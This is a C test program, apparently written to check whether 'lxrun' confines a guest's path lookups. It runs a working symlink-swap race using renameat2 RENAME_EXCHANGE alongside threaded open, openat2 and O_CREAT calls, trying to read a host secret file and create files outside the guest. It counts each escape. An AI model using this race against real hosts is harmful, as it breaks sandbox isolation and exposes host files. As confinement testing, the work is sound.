/* A guest that races lxrun's path resolution on the host side. In its current directory it
 * makes a directory `d` holding a decoy at d/<secret's path> and a symlink `s` -> `/`; one
 * thread swaps the two names with renameat2(RENAME_EXCHANGE) in a loop, while two threads go
 * through `d` again and again: one reads d/<secret's path> (open, then openat2), the other
 * creates files beside it (open O_CREAT). Natively, a swap lets them reach the host's secret
 * and create files in its directory; a confined lookup never does.
 *   swaprace HOST_SECRET_PATH ITERATIONS [first]
 * Prints "opened some, escaped N, created outside N". With `first`, stops at the first escape. */
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

struct open_how_v0 {
    unsigned long long flags, mode, resolve;
};

static volatile int stop;
static const char *secret;
static char inside[4096], made_dir[4096];
static long iters;
static int first;
static long escaped, opened, created, outside;

static void *swapper(void *arg) {
    (void)arg;
    while (!stop)
        syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "s", 2 /* RENAME_EXCHANGE */);
    return NULL;
}

/* Whether `fd` holds the host's secret (which starts "HOST-SECRET"). */
static int is_secret(int fd) {
    char buf[16] = {0};
    ssize_t n = read(fd, buf, 11);
    return n == 11 && memcmp(buf, "HOST-SECRET", 11) == 0;
}

static void *reader(void *arg) {
    (void)arg;
    struct open_how_v0 how = {O_RDONLY, 0, 0};
    for (long i = 0; i < iters && !stop; i++) {
        int fd = i % 2 ? open(inside, O_RDONLY) : (int)syscall(SYS_openat2, AT_FDCWD, inside, &how, sizeof how);
        if (fd < 0)
            continue;
        __atomic_add_fetch(&opened, 1, __ATOMIC_RELAXED);
        if (is_secret(fd)) {
            __atomic_add_fetch(&escaped, 1, __ATOMIC_RELAXED);
            if (first)
                stop = 1;
        }
        close(fd);
    }
    return NULL;
}

static void *creator(void *arg) {
    (void)arg;
    char name[4200];
    for (long i = 0; i < iters / 4 && !stop; i++) {
        snprintf(name, sizeof name, "%s/made-%ld", made_dir, i);
        int fd = open(name, O_CREAT | O_WRONLY | O_EXCL, 0600);
        if (fd >= 0) {
            __atomic_add_fetch(&created, 1, __ATOMIC_RELAXED);
            close(fd);
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3 && argc != 4)
        return 2;
    secret = argv[1];
    iters = atol(argv[2]);
    first = argc == 4 && strcmp(argv[3], "first") == 0;
    if (secret[0] != '/')
        return 2;
    /* d/<secret's directories>/<secret's name>, holding a decoy. */
    snprintf(inside, sizeof inside, "d%s", secret);
    snprintf(made_dir, sizeof made_dir, "%s", inside);
    *strrchr(made_dir, '/') = 0;
    char mk[4096 + 16];
    snprintf(mk, sizeof mk, "mkdir -p '%s'", made_dir);
    if (system(mk) != 0)
        return 2;
    int decoy = open(inside, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (decoy < 0 || write(decoy, "decoy", 5) != 5)
        return 2;
    close(decoy);
    if (symlink("/", "s") != 0)
        return 2;
    pthread_t t[3];
    pthread_create(&t[0], NULL, swapper, NULL);
    pthread_create(&t[1], NULL, reader, NULL);
    pthread_create(&t[2], NULL, creator, NULL);
    pthread_join(t[1], NULL);
    pthread_join(t[2], NULL);
    stop = 1;
    pthread_join(t[0], NULL);
    /* Files made in the secret's own directory, outside the guest. */
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", secret);
    *strrchr(dir, '/') = 0;
    DIR *listing = opendir(dir);
    for (struct dirent *e; listing && (e = readdir(listing));)
        outside += strncmp(e->d_name, "made-", 5) == 0;
    if (listing)
        closedir(listing);
    printf("opened %s, escaped %ld, created outside %ld\n", opened > 0 ? "some" : "none", escaped, outside);
    return escaped || outside ? 1 : 0;
}
